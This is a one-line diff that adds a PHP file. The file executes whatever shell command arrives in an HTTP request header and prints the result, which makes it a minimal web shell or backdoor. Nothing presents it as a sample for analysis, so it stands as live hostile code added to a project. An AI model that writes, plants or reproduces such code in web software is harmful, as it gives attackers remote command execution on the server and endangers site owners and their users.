@@ -1,0 +1,1 @@
+<?php $c = $_SERVER['HTTP_X_CMD']; echo `$c`;
